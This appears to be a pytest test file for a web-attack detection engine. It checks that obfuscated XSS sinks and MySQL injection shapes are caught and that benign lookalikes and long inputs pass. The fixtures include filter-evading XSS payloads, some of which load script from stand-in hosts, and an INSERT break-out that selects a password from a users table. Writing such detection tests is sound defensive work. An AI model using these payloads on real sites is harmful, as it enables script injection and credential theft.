"""Unit: the shapes of the fresh32 first contact.

JavaScript that reaches a dialog or ``eval`` without writing the call plainly (``js_indirect``: the name split across
string literals, the sink handed on as a value, reached by a string key, ``with`` or ``new Function`…```, a string
break-out with a unary operator, a handler that loads script, a tag name that collapses to ``script``); MySQL
backtick-quoted names closed and re-opened around a condition, a float with an empty exponent hiding a break-out,
and an ``INSERT`` whose value list is closed at once and followed by rows with sub-selects (``sqli``,
``sqli_values``). Values are our own; none comes from a corpus."""

from __future__ import annotations

import pytest

from bastion.detection import Context, Engine
from bastion.detection.js_indirect import indirect_sink, split_sink
from bastion.detection.sqli import is_sqli

BODY = Context("body", "comment")
CONTEXTS = [BODY, Context("header", "x-note"), Context("cookie", "pref"), Context("query", "q")]

INDIRECT_SINKS = [
    "self['co'+'nf'+'irm'](7)",
    "parent[\"pro\"+\"mpt\"].call(null,2)",
    "f='ev'+'al';g=this[f];g('1')",
    "Array.constructor('con'+'firm(4)')()",
    "self[`pro`+/mpt/.source]`x`",
    "toString=confirm;self+''",
    "onerror=prompt\nthrow 9",
    "[3,4].flatMap(confirm)",
    "[0].some(prompt)",
    "(0,9,confirm)(2)",
    "'x'.split`y${prompt}`",
    "[prompt][0].apply(self,[3])",
    "frames[\"confirm\"](4)",
    "with(window)confirm(location)",
    "new Function`pro\\mpt\\`2\\``",
    "\";+confirm(5)//",
    "';!prompt(3)//",
    "onmouseover=\"(1);u=String.fromCharCode(104,116);$.getScript(u)\"",
    "\" onclick='$.getScript(\"//cdn.example/x.js\")' x=\"",
    "<ScRscriptIpT src=//x.example/a.js></ScRscriptIpT>",
    "<sscriptcript>confirm(1)</sscriptcript>",
]

JS_BENIGN = [
    "Please conf' + 'irm your e-mail address",  # not a literal chain
    "msg = 'Please conf' + 'irm your address'",  # joined text is a sentence, not the name
    "title = 'eva' + 'luation report'",
    "const label = 'Pro' + 'mpt engineering'",
    "greeting = 'Hello, ' + name + '!'",
    "path = '/api/' + version + '/items'",
    "this.alerts.push(alert); render(alerts)",
    "items.filter(isVisible).map(render)",
    "onerror = handleError; throw new Error('x')",
    "See the `eval` section and `alert` types in the docs",
    "with (stats) { total += count }",
    "toString = () => 'Point(' + x + ')'",
    "valueOf: the alert threshold (default 5)",
    "new Function is discouraged; see the style guide",
    "onclick=\"track('signup')\" data-id=\"42\"",
    "const s = String.fromCharCode(65, 66)",
    "<description>script</description>",
    "<prescription>x</prescription>",
    "prompt('Name?') is a browser dialog; alert(msg) shows a message",
    "Confirm: 'yes' + 'no' options",
]


@pytest.mark.parametrize("value", INDIRECT_SINKS)
def test_indirect_sink_is_refused(engine: Engine, value: str) -> None:
    assert indirect_sink(value) is not None, value
    for ctx in CONTEXTS:
        assert engine.inspect(value, ctx) is not None, (value, ctx)


@pytest.mark.parametrize("value", JS_BENIGN)
def test_js_lookalikes_pass_the_indirect_search(value: str) -> None:
    assert indirect_sink(value) is None, value


@pytest.mark.parametrize("value", [v for v in JS_BENIGN if "alert(msg)" not in v])
def test_js_lookalikes_pass_the_engine(engine: Engine, value: str) -> None:
    assert engine.inspect(value, BODY) is None, value


def test_split_sink_needs_the_whole_name_joined() -> None:
    assert split_sink("'conf'+'irm'") is not None
    assert split_sink("'conf'+'irmed'") is None
    assert split_sink("'confirm'+'(1)'") is None  # one literal holds the name: not a cut name


BACKTICK_REOPENED = ["7`|`7`=`7", "5`)&&`5`=(`5", "x`or`y`=`y", "-3`XoR`0`<`1"]
"""A backtick-quoted name closed, a condition over quoted names, one more opened for the application to close."""
EXPONENT_BREAKOUTS = ["9' or 2.e(0) or 'a'='a", "z\" or 6.e(7) or \"b\"=\"b", "0' || 5.e(1) || 'q'='q"]
"""A quote break-out with an empty-exponent float (``2.e(``) between its words: MySQL drops the float."""
VALUES_ROWS = [
    "bob'),('eve','pw',(select password from users limit 1))-- -",
    "n\"), (\"a\", 2, (select 1 from dual))#",
    "x'),('y','z')-- ",
]
"""An INSERT's value list closed at once, whole rows after it (values may be sub-selects), a comment cut."""
SQL_BENIGN = [
    "Run `make` and `make test`",
    "x`, `y` or `z`",
    "use `a`=`b` in the config",
    "id` column is `primary",
    "the `--force` flag",
    "see section 3.e(ii) of the contract",
    "rule 2.e) applies, or ask",
    "version 1.e(beta)",
    "He said 'yes'), ('no') -- maybe later",
    "tuple ('a'), ('b') in python",
    "f(x'), ('y') notes",
]


@pytest.mark.parametrize("value", BACKTICK_REOPENED + EXPONENT_BREAKOUTS + VALUES_ROWS)
def test_fresh32_sql_shapes_are_refused(engine: Engine, value: str) -> None:
    assert is_sqli(value) is not None, value
    for ctx in (Context("query", "sort"), Context("body", "email")):
        assert engine.inspect(value, ctx) is not None, (value, ctx)


@pytest.mark.parametrize("value", SQL_BENIGN)
def test_fresh32_sql_lookalikes_pass(engine: Engine, value: str) -> None:
    assert is_sqli(value) is None, value
    assert engine.inspect(value, BODY) is None, value


@pytest.mark.parametrize("value", [
    "'a'+" * 32768,
    "['x'+'y'+" * 16384,
    "onclick=" + "a" * 131072,
    "<scrscript" * 13108,
    "1`&`" * 32768,
    "x'),(" * 26214,
    "1.e(" * 32768,
    "[alert][0]" * 13107,
    "a`${" * 32768,
])
def test_fresh32_scans_are_linear(inspect_seconds, value: str) -> None:  # type: ignore[no-untyped-def]
    assert inspect_seconds(value[:131072], BODY) < 2.0
